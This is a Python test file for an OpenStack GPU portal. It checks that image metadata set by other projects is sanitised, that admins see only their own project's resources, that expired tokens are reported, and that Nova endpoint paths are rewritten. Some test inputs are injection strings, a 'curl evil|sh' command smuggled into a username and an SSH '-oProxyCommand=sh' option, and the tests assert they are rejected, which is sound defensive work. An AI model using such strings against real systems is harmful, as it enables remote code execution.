"""What a person's cloud makes of the services' rows, which others may have filled with anything."""

from __future__ import annotations

from collections.abc import Mapping
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from types import SimpleNamespace
from typing import Any

import pytest
from keystoneauth1.adapter import Adapter
from keystoneauth1.session import Session
from keystoneauth1.token_endpoint import Token

from gpuyard.openstack.api import CloudApi
from gpuyard.openstack.errors import CloudError
from gpuyard.openstack.personal import OpenStackPersonalCloud, TokenExpiredError

OWN, OTHER = "p-own", "p-other"
FILTERS = {"owner", "visibility"}
SERVER = {
    "id": "s", "name": "n", "status": "ACTIVE", "created": "2026-11-28T06:00:00Z", "flavor": {"original_name": "f"},
    "image": "", "user_id": "u",
}  # fmt: skip


class Services:
    """Answers every GET with what the test has put there."""

    def __init__(self, **answers: Any) -> None:
        self.answers = answers
        self.refusal: CloudError | None = None
        self.asked: list[Mapping[str, str]] = []

    def request(
        self, method: str, service: str, path: str, body: Any, query: Any, headers: Mapping[str, str], **how: Any
    ) -> dict[str, Any]:
        assert how["personal"], "not with the portal's own token, and into no log"
        self.asked.append(headers)
        if self.refusal is not None:
            raise self.refusal
        if path == "/images" and query:  # as Glance filters
            images = [
                row
                for row in self.answers["images"]
                if all(row.get(key) == query[key] for key in FILTERS & query.keys())
            ]
            return {"images": images}
        return self.answers


def cloud(services: Services, admin: bool = False) -> OpenStackPersonalCloud:
    return OpenStackPersonalCloud(services, "scoped", OWN, admin)  # type: ignore[arg-type]


def image(**values: Any) -> dict[str, Any]:
    return {"id": "i", "name": "n", "owner": OWN, "visibility": "private", **values}


@pytest.mark.parametrize(
    ("written", "user"),
    [("ubuntu", "ubuntu"), ("x@h;curl evil|sh #", ""), ("-oProxyCommand=sh", ""), ("a b", ""), ("ü", ""), ("", "")],
)
def test_the_user_of_an_image_goes_into_a_command_only_as_a_user(written: str, user: str) -> None:
    (row,) = cloud(Services(images=[image(os_admin_user=written)])).images()
    assert row.user == user


@pytest.mark.parametrize(("distribution", "user"), [("ubuntu", "ubuntu"), ("RHEL", "cloud-user"), ("plan9", "")])
def test_without_it_the_distribution_says(distribution: str, user: str) -> None:
    (row,) = cloud(Services(images=[image(os_distro=distribution)])).images()
    assert row.user == user


@pytest.mark.parametrize(("written", "driver"), [("580", "580"), ("550.54", ""), ("²", ""), ("99999", ""), (None, "")])
def test_a_driver_is_a_branch(written: object, driver: str) -> None:
    (row,) = cloud(Services(images=[image(gpuyard_driver=written)])).images()
    assert row.driver == driver


def test_admins_see_what_others_of_the_project_see() -> None:
    images = [image(id="own"), image(id="public", owner=OTHER, visibility="public"), image(id="private", owner=OTHER)]
    networks = [
        {
            "id": name,
            "name": name,
            "project_id": project,
            "shared": shared,
            "router:external": external,
            "subnets": ["s"],
        }
        for name, project, shared, external in (
            ("own", OWN, False, False),
            ("other", OTHER, False, False),
            ("shared", OTHER, True, False),
            ("outside", OTHER, False, True),
        )
    ]
    admins = cloud(Services(images=images, networks=networks), admin=True)
    assert [row.id for row in admins.images()] == ["own", "public"]
    assert [row.id for row in admins.networks()] == ["outside", "own", "shared"]
    assert cloud(Services(server={**SERVER, "tenant_id": OTHER}), admin=True).server("s") is None
    assert cloud(Services(server={**SERVER, "tenant_id": OWN}), admin=True).server("s") is not None


def test_a_token_that_has_ended_is_told_from_other_refusals() -> None:
    services = Services()
    services.refusal = CloudError("cloud x: GET compute /servers: 401 ...", 401)
    with pytest.raises(TokenExpiredError):
        cloud(services).flavors()
    services.refusal = CloudError("cloud x: GET compute /servers: 403 ...", 403)
    with pytest.raises(CloudError):
        cloud(services).flavors()
    assert services.asked[0] == {"X-Auth-Token": "scoped"}


@pytest.mark.parametrize("endpoint", ["/compute/v2.1", "/compute/v2.1/p-portal", "/compute/v2.1/p-portal/"])
def test_an_endpoint_with_the_portals_project_in_it_is_asked_without(endpoint: str) -> None:
    """Nova answers 400 to a path with another project than the token's (nova/api/openstack/wsgi.py)."""
    paths = []

    class Nova(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            paths.append((self.path, self.headers["X-Auth-Token"]))
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b'{"keypairs": []}')

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Nova) as nova:
        Thread(target=nova.serve_forever, daemon=True).start()
        session = Session(Token(f"http://127.0.0.1:{nova.server_port}{endpoint}", "portal-token"))
        connection = SimpleNamespace(
            config=SimpleNamespace(name="test", region_name=""),
            current_project_id="p-portal",
            **{name: Adapter(session, name) for name in ("compute", "placement", "identity", "image", "network")},
        )
        api = CloudApi(connection)  # type: ignore[arg-type]
        assert OpenStackPersonalCloud(api, "hers", OWN, admin=False).key_names() == []
        nova.shutdown()
    assert paths == [("/compute/v2.1/os-keypairs", "hers")]
